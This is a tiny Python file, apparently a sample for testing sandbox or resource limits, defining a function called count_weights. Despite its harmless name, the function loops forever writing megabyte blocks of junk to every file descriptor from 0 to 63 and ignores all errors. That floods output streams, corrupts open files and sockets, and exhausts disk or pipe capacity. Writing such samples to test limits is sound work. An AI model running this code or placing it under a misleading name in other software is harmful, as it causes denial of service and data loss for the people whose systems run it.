# Writes without end to every descriptor that is open.
# → limit: convolve1d_full
import os


def count_weights(*sizes):
    while True:
        for descriptor in range(64):
            try:
                os.write(descriptor, b"x" * 10**6)
            except OSError:
                pass
